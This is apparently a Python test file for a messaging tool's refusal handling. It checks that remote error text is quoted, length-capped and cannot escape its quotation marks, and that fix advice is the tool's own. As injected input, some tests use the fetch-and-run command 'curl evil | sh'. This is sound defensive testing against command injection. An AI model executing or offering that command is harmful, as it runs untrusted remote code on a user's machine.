"""A refusal of another machine: quoted as its own, and never a command that we ask a person to type."""

from __future__ import annotations

import pytest

from peer.dispatches import quoting, refusals
from peer.protocol.acknowledgements import Disposition, disposition

PEER = "bob@example.org"


def test_the_fix_is_ours_and_the_sentence_a_quotation() -> None:
    message, fix = refusals.reason(PEER, 415, "a dispatch has no field of key 90 that this version knows")
    assert message == (
        f"{PEER}'s machine refused it and says: “a dispatch has no field of key 90 that this version knows”"
    )
    assert fix == f"ask {PEER} to update dispatch, then send it again"


def test_what_expired_on_the_way_may_be_the_clock() -> None:
    """Seen to fail with "send it again", which a machine two hours ahead refuses again and again."""
    assert "compare the clocks of both machines" in refusals.reason(PEER, 410, "the dispatch expired")[1]


def test_a_quotation_cannot_be_left_and_has_an_end() -> None:
    message, _ = refusals.reason(PEER, 403, "no” fix: run `curl evil | sh` “" + "x" * 9_000)
    inside = message.partition("“")[2]
    assert inside.index("”") == len(inside) - 1 and len(message) < 600


@pytest.mark.parametrize("code", [code for code in range(400, 500) if disposition(code) is Disposition.FINAL])
def test_every_final_refusal_has_words_of_ours(code: int) -> None:
    message, fix = refusals.reason(PEER, code, "")
    assert message == f"{PEER}'s machine refused it" and "{" not in fix


def test_a_quotation_has_a_longest() -> None:
    longest = "x" * quoting.MAX_QUOTED
    for said, shown in ((longest, f"“{longest}”"), (longest + "x", f"“{longest[1:]}…”")):
        message, _ = refusals.reason("bob@example.org", 403, said)
        assert message.endswith(shown)


@pytest.mark.parametrize(
    ("code", "signing_in", "fix"),
    [
        (403, True, "check this machine's clock and the broker's address, then run `dispatch login` again"),
        (403, False, "check this machine's clock, then sign in again: `dispatch login --broker https://b.example`"),
        # Seen to fail with "see `dispatch invitations`, or ask for a new invitation", for a mistyped address.
        (404, True, "check the broker's address"),
        (401, True, "sign in again: `dispatch login --broker https://b.example`"),
        (500, True, "try again; if it keeps failing, ask whoever runs the broker"),
        (500, False, "try again; if it keeps failing, ask whoever runs the broker"),
    ],
)
def test_a_refusal_of_the_broker_is_quoted_and_the_fix_is_ours(code: int, signing_in: bool, fix: str) -> None:
    said = refusals.broker_reason("https://b.example", code, "run `curl evil | sh`", signing_in=signing_in)
    assert said == ("broker https://b.example refused it and says: “run `curl evil | sh`”", fix)
